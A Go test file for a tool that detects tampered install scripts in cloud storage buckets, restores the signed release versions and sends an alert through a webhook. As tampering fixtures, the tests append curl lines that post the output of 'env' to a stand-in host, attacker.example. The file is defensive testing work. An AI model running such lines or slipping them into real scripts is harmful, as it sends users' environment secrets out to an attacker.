package main

import (
	"bytes"
	"context"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"testing"

	"cloud.google.com/go/storage"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/tamperguard/tamperguard/internal/gcstest"
)

type bucketEnv struct {
	t   *testing.T
	srv *gcstest.Server
	cfg string
	env env
	out *bytes.Buffer
	err *bytes.Buffer
}

func newBucketEnv(t *testing.T) *bucketEnv {
	t.Helper()
	srv := gcstest.New(t, gcstest.BucketSpec{Name: "uploader-prod", Versioning: true}, gcstest.BucketSpec{Name: "tg-state", Versioning: true})
	cfg := filepath.Join(t.TempDir(), "tamperguard.yaml")
	require.NoError(t, os.WriteFile(cfg, []byte(`state: {bucket: tg-state}
rules:
  - bucket: uploader-prod
    objects: ["install.sh", "dl/*.sh"]
    release:
      git: `+testdataPath(t, "git", "uploader.git")+`
      tag: v1.2.0
      entry: install.sh
    keys:
      openpgp: ["`+testdataPath(t, "keys", "maintainer-rsa3072.asc")+`"]
`), 0o600))
	b := &bucketEnv{t: t, srv: srv, cfg: cfg, out: &bytes.Buffer{}, err: &bytes.Buffer{}}
	b.env = env{stdout: b.out, stderr: b.err, getenv: func(string) string { return "" },
		storageClient: func(context.Context) (*storage.Client, func() error, error) {
			return srv.Client, func() error { return nil }, nil
		}}
	return b
}

func (b *bucketEnv) run(args ...string) int {
	b.out.Reset()
	b.err.Reset()
	return run(context.Background(), b.env, args)
}

func (b *bucketEnv) put(name string, data []byte) int64 {
	w := b.srv.Client.Bucket("uploader-prod").Object(name).NewWriter(context.Background())
	_, err := w.Write(data)
	require.NoError(b.t, err)
	require.NoError(b.t, w.Close())
	return w.Attrs().Generation
}

func (b *bucketEnv) live(name string) []byte {
	r, err := b.srv.Client.Bucket("uploader-prod").Object(name).NewReader(context.Background())
	require.NoError(b.t, err)
	defer r.Close()
	data, err := io.ReadAll(r)
	require.NoError(b.t, err)
	return data
}

type decisionLine struct {
	Bucket             string `json:"bucket"`
	Object             string `json:"object"`
	Generation         int64  `json:"generation"`
	Verdict            string `json:"verdict"`
	ExpectedSHA256     string `json:"expected_sha256"`
	ActualSHA256       string `json:"actual_sha256"`
	Size               int64  `json:"size"`
	Release            string `json:"release"`
	Signer             string `json:"signer"`
	Action             string `json:"action"`
	RestoredGeneration int64  `json:"restored_generation"`
	Reason             string `json:"reason"`
}

func (b *bucketEnv) lines() []decisionLine {
	var out []decisionLine
	for _, l := range strings.Split(strings.TrimSpace(b.out.String()), "\n") {
		if l == "" {
			continue
		}
		var d decisionLine
		require.NoError(b.t, json.Unmarshal([]byte(l), &d), l)
		out = append(out, d)
	}
	return out
}

func goodInstallSh(t *testing.T) []byte {
	p := releasedInstallSh(t, "v1.2.0")
	b, err := os.ReadFile(p)
	require.NoError(t, err)
	return b
}

func TestCheckCommand(t *testing.T) {
	b := newBucketEnv(t)
	good := goodInstallSh(t)
	b.put("install.sh", good)

	code := b.run("check", "--config", b.cfg, "gs://uploader-prod/install.sh")
	require.Equal(t, exitOK, code, b.err.String())
	l := b.lines()
	require.Len(t, l, 1)
	assert.Equal(t, "ok", l[0].Verdict)
	assert.Equal(t, "none", l[0].Action)
	assert.Equal(t, "v1.2.0", l[0].Release)

	bad := append(append([]byte(nil), good...), "curl -d \"$(env)\" https://attacker.example\n"...)
	badGen := b.put("install.sh", bad)

	// Without --restore: reported, not touched.
	code = b.run("check", "--config", b.cfg, "gs://uploader-prod/install.sh")
	assert.Equal(t, exitTampered, code)
	l = b.lines()
	require.Len(t, l, 1)
	assert.Equal(t, "tampered", l[0].Verdict)
	assert.Equal(t, "none", l[0].Action)
	assert.Equal(t, badGen, l[0].Generation)
	assert.Equal(t, bad, b.live("install.sh"))
	assert.Contains(t, b.err.String(), "TAMPERED")

	// With --restore: the good bytes go back, the bad ones are kept.
	code = b.run("check", "--config", b.cfg, "--restore", "gs://uploader-prod/install.sh")
	assert.Equal(t, exitTampered, code, "tampered is exit 1 even when restored")
	l = b.lines()
	require.Len(t, l, 1)
	assert.Equal(t, "restored", l[0].Action)
	assert.NotZero(t, l[0].RestoredGeneration)
	assert.Equal(t, good, b.live("install.sh"))
	assert.Contains(t, b.err.String(), "evidence kept at gs://tg-state/evidence/uploader-prod/install.sh/")

	// A specific generation can be judged after the fact.
	code = b.run("check", "--config", b.cfg, "gs://uploader-prod/install.sh#"+itoa(badGen))
	assert.Equal(t, exitTampered, code)
	assert.Equal(t, "tampered", b.lines()[0].Verdict)

	// An object no rule covers, and bad arguments.
	code = b.run("check", "--config", b.cfg, "gs://uploader-prod/other.bin")
	assert.Equal(t, exitError, code)
	assert.Equal(t, "unverifiable", b.lines()[0].Verdict)
	assert.Equal(t, exitError, b.run("check", "--config", b.cfg, "uploader-prod/install.sh"))
	assert.Contains(t, b.err.String(), "want gs://BUCKET/OBJECT")
	assert.Equal(t, exitError, b.run("check", "--config", b.cfg, "gs://-uploader/install.sh"))
	assert.Contains(t, b.err.String(), `"-uploader" is not a bucket name (must start and end with a letter or digit)`)
	assert.Equal(t, exitError, b.run("check", "--config", b.cfg))
}

func TestAuditCommand(t *testing.T) {
	b := newBucketEnv(t)
	good := goodInstallSh(t)
	b.put("dl/a.sh", good)
	b.put("dl/b.sh", append(append([]byte(nil), good...), "echo pwned\n"...))
	b.put("dl/readme.txt", []byte("not covered"))

	code := b.run("audit", "--config", b.cfg)
	assert.Equal(t, exitTampered, code, b.err.String())
	got := map[string]string{}
	for _, l := range b.lines() {
		got[l.Object] = l.Verdict
	}
	assert.Equal(t, map[string]string{"dl/a.sh": "ok", "dl/b.sh": "tampered", "install.sh": "missing"}, got)
	assert.Contains(t, b.err.String(), "audited 3 objects: 1 ok, 1 tampered, 1 missing")

	code = b.run("audit", "--config", b.cfg, "--restore")
	assert.Equal(t, exitTampered, code)
	assert.Equal(t, good, b.live("dl/b.sh"))
	assert.Equal(t, good, b.live("install.sh"))

	code = b.run("audit", "--config", b.cfg)
	assert.Equal(t, exitOK, code, b.err.String())
}

func itoa(n int64) string { return strconv.FormatInt(n, 10) }

// check --restore alerts through an incoming webhook: one message saying what was injected
// and that it was undone.
func TestCheckRestoreAlertsSlack(t *testing.T) {
	b := newBucketEnv(t)
	var mu sync.Mutex
	var posts []string
	hook := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		mu.Lock()
		posts = append(posts, string(body))
		mu.Unlock()
		w.Write([]byte("ok"))
	}))
	defer hook.Close()
	b.env.getenv = func(k string) string {
		if k == "SLACK_WEBHOOK_URL" {
			return hook.URL + "/services/T000/B000/secret"
		}
		return ""
	}
	good := goodInstallSh(t)
	b.put("install.sh", good)
	b.put("install.sh", append(append([]byte(nil), good...), "curl -sm 0.5 -d \"$(env)\" https://attacker.example/upload || true\n"...))

	code := b.run("check", "--config", b.cfg, "--restore", "gs://uploader-prod/install.sh")
	assert.Equal(t, exitTampered, code, b.err.String())
	assert.Equal(t, "restored", b.lines()[0].Action)
	mu.Lock()
	defer mu.Unlock()
	require.Len(t, posts, 1)
	assert.Contains(t, posts[0], "restored")
	assert.Contains(t, posts[0], "attacker[.]example")
	assert.NotContains(t, b.err.String(), "secret")
}
